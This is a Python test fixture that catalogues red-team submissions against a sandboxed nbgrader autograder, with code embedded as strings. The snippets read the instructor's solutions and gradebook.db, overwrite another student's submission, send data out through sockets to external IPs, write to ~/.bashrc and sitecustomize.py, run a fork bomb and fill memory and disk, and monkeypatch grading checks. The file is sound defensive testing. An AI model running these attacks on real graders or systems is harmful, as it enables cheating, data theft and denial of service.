"""Hostile submissions: what a student could try against the autograder, and what must happen.

Like the catalogue of wrong answers (``autograder/wrong_answers/``), each :class:`Attack` is
the instructor's solution of ``week1_forward_pass`` with some answer cells replaced, here by
code that attacks the grading machine.  ``tests/autograder/test_red_team.py`` submits them all, plus an
honest correct and an honest blank student, autogrades everyone sandboxed in one
``nbgrader autograde`` run (:mod:`autograder.sandbox`), and checks from outside that each
attack was contained and that the grades are as stated here.

Most attacks are written so that **success would earn points**: the answer is defined only
if the forbidden read, write or connection worked.  A contained attack therefore loses
exactly the attacked cell's points; a leak would show up as full marks.

Placeholders filled in by the test: ``@ROOT@`` (the course root, an absolute path), ``@REPO@``
(the checkout whose ``course`` package the sandbox mounts read-only) and ``@PORT@`` (a TCP port
on 127.0.0.1 where the test listens).
"""
from __future__ import annotations

from dataclasses import dataclass, field

from autograder.wrong_answers import Submission

ASSIGNMENT = "week1_forward_pass"
NOTEBOOK = "01_forward_pass"

# grade cells of week1_forward_pass, in notebook order
ORDER = ("sigmoid_tests", "relu_tests", "perceptron_tests", "neuron_tests", "matrix_product_tests",
         "predict_no_hidden_tests", "predict_hidden_tests", "forward_tests", "weight_shapes_tests",
         "collapse_tests")


def from_on(grade_id: str) -> tuple[str, ...]:
    """This grade cell and every one after it (the kernel died there, or the guard tripped)."""
    return ORDER[ORDER.index(grade_id):]


@dataclass(frozen=True)
class Attack(Submission):
    attacks: str = ""                # what it attacks
    loses: tuple[str, ...] = ()      # grade cells that must score 0; all others full marks
    kills_kernel: bool = False       # the sandbox stops the kernel (later cells score 0 too)
    edit_cells: dict[str, str | None] = field(default_factory=dict)  # grade cell -> new source (None: delete)


SOURCE_NB = f"source/{ASSIGNMENT}/{NOTEBOOK}.ipynb"
_STEAL = """
import json
def _steal(path, grade_id):
    cells = json.load(open(path))["cells"]
    src = "".join(next(c for c in cells if c["metadata"].get("nbgrader", {}).get("grade_id") == grade_id)["source"])
    print("LEAKED SOLUTION:", src)
    exec(src, globals())
"""

ATTACKS: list[Attack] = [
    Attack("read_source_solution", {
        "relu": _STEAL + f'_steal("@ROOT@/{SOURCE_NB}", "relu")',
        "perceptron": _STEAL + f'_steal("../../../{SOURCE_NB}", "perceptron")',
    }, "read the instructor's notebook in source/ (absolute path of the course root, and ../../..)",
        ("relu_tests", "perceptron_tests")),
    Attack("read_gradebook", {"neuron": """
        leaked = []
        for path in ("@ROOT@/gradebook.db", "../../../gradebook.db"):
            try:
                leaked.append(open(path, "rb").read())
            except OSError as err:
                print("blocked:", err)
        if leaked:
            print("LEAKED GRADEBOOK:", leaked[0][:100])
            def neuron(x, w, b):
                return sigmoid(np.dot(x, w) + b)
        """}, "read gradebook.db (everyone's grades, the hidden tests' source)", ("neuron_tests",)),
    Attack("other_student", {"matrix_product": """
        victim = "@ROOT@/submitted/solution/week1_forward_pass/01_forward_pass.ipynb"
        print("LEAKED OTHER STUDENT:", open(victim).read()[:200])
        open(victim, "w").write("{}")
        open("../../solution/week1_forward_pass/01_forward_pass.ipynb", "w").write("{}")
        AB = A @ B
        """}, "read and overwrite another student's submission (submitted/ and autograded/)",
        ("matrix_product_tests",)),
    Attack("network", {"predict_no_hidden": """
        import socket
        connected = []
        for host, port in (("127.0.0.1", @PORT@), ("1.1.1.1", 80), ("8.8.8.8", 53)):
            try:
                s = socket.create_connection((host, port), timeout=2)
                s.sendall(b"LEAKED over the network")
                connected.append(host)
            except OSError as err:
                print("blocked:", host, err)
        if connected:
            def predict_no_hidden(X, W, b):
                return sigmoid(X @ W + b)
        """}, "open network connections: to a listener on the host's 127.0.0.1 and to the internet",
        ("predict_no_hidden_tests",)),
    Attack("write_outside", {"predict_hidden": """
        import os, sys
        targets = [os.path.join(sys.prefix, "lib", "python%d.%d" % sys.version_info[:2], "site-packages", "sitecustomize.py"),
                   "/root/.bashrc", "@ROOT@/source/pwned.txt", "@ROOT@/../pwned_outside.txt",
                   "@REPO@/course/pwned.py", "/tmp/pwned_by_student.txt"]
        wrote = []
        for t in targets:
            try:
                with open(t, "a") as f:
                    f.write("print('PWNED')\\n")
                wrote.append(t)
            except OSError as err:
                print("blocked:", t, err)
        if wrote and wrote != ["/tmp/pwned_by_student.txt"]:   # the private /tmp is fine to write
            def predict_hidden(X, W1, b1, W2, b2):
                return sigmoid(sigmoid(X @ W1 + b1) @ W2 + b2)
        """}, "write outside the working copy: the venv (sitecustomize.py), ~/.bashrc, the course root, "
              "the course package, the host's /tmp", ("predict_hidden_tests",)),
    Attack("fork_bomb", {"collapse": """
        import os
        while True:
            os.fork()
        """}, "fork bomb: processes without end", ("collapse_tests",), kills_kernel=True),
    Attack("memory_hog", {"forward": """
        import numpy as np
        hog = [np.ones(2**27) for _ in range(1000)]   # 1 GB each ... 1 TB
        """}, "allocate far more memory than the limit", from_on("forward_tests"), kills_kernel=True),
    Attack("infinite_loop", {"weight_shapes": """
        while True:
            pass
        """}, "infinite loop in an answer cell (stopped at the cell time limit)", ("weight_shapes_tests",)),
    Attack("stubborn_loop", {"weight_shapes": """
        while True:
            try:
                while True:
                    pass
            except BaseException:
                pass
        """}, "infinite loop that swallows the interrupt (KeyboardInterrupt)", from_on("weight_shapes_tests"),
        kills_kernel=True),
    Attack("disk_fill", {"sigmoid": """
        chunk = b"0" * 2**20
        for path in ("huge.bin", "/tmp/huge.bin"):
            try:
                with open(path, "wb") as f:
                    for _ in range(4096):   # 4 GB
                        f.write(chunk)
            except OSError as err:
                print("stopped:", err)
        for i in range(100):                # many files just under the size limit
            with open(f"part{i}.bin", "wb") as f:
                for _ in range(40):
                    f.write(chunk)
        def sigmoid(z):
            return 1 / (1 + np.exp(-z))
        """}, "fill the disk: one huge file, then many large ones", from_on("sigmoid_tests"), kills_kernel=True),
    Attack("exit_calls", {"relu": """
        import sys
        sys.exit(0)
        """, "collapse": """
        import os
        os._exit(0)
        """}, "sys.exit and os._exit in answer cells", ("relu_tests", "collapse_tests"), kills_kernel=True),
    Attack("monkeypatch_numpy", {"sigmoid": """
        def sigmoid(z):
            return z   # wrong
        np.isclose = lambda a, b, *args, **kwargs: np.ones(np.shape(b), dtype=bool)
        """}, "patch numpy.isclose (after a wrong answer) so that every check passes",
        ORDER),
    Attack("monkeypatch_feedback", {"collapse": """
        def collapse(W, U):
            return U @ W   # wrong
        def check(*args, **kwargs):
            pass
        """}, "rebind the name check to a function that passes everything (after a wrong answer)", ("collapse_tests",)),
    Attack("patch_internals", {"forward": """
        import numpy.testing, course.feedback
        def forward(X, weights, biases):
            return X   # wrong
        try:
            course.feedback._problem.__code__ = (lambda name, got, expected, rtol, atol: ("", [])).__code__
        except Exception as err:
            print("blocked:", err)
        numpy.testing.assert_allclose = lambda *args, **kwargs: None
        """}, "patch numpy.testing and swap the __code__ of the feedback's comparison", from_on("forward_tests")),
    Attack("tamper_during_test", {"predict_hidden": """
        def predict_hidden(X, W1, b1, W2, b2):
            import numpy
            numpy.isclose = lambda a, b, *args, **kwargs: numpy.ones(numpy.shape(b), dtype=bool)
            return X[:, :1] * 0   # wrong, patched while the test calls it
        """}, "a function that patches numpy.isclose only when the hidden test calls it",
        from_on("predict_hidden_tests")),
    Attack("edit_locked_tests", {"relu": """
        def relu(z):
            return z   # wrong
        """, "perceptron": """
        def perceptron(x, w, b):
            return 1   # wrong
        """}, "replace a locked test cell with `pass` and delete another, with wrong answers "
              "(nbgrader restores the first, and puts the deleted one back: --OverwriteCells.add_missing_cells)",
        ("relu_tests", "perceptron_tests"), edit_cells={"relu_tests": "pass", "perceptron_tests": None}),
    Attack("huge_output", {"perceptron": """
        for _ in range(100):
            print("x" * 2**20)          # 100 MB in 100 prints
        print("y" * (50 * 2**20))       # and 50 MB at once
        def perceptron(x, w, b):
            return int(np.dot(x, w) + b > 0)
        """}, "print 150 MB of output (the answer itself is right: full marks, output capped)", ()),
]


def attacks() -> list[Attack]:
    names = [a.name for a in ATTACKS]
    assert len(set(names)) == len(names), "attack names must be unique"
    return list(ATTACKS)
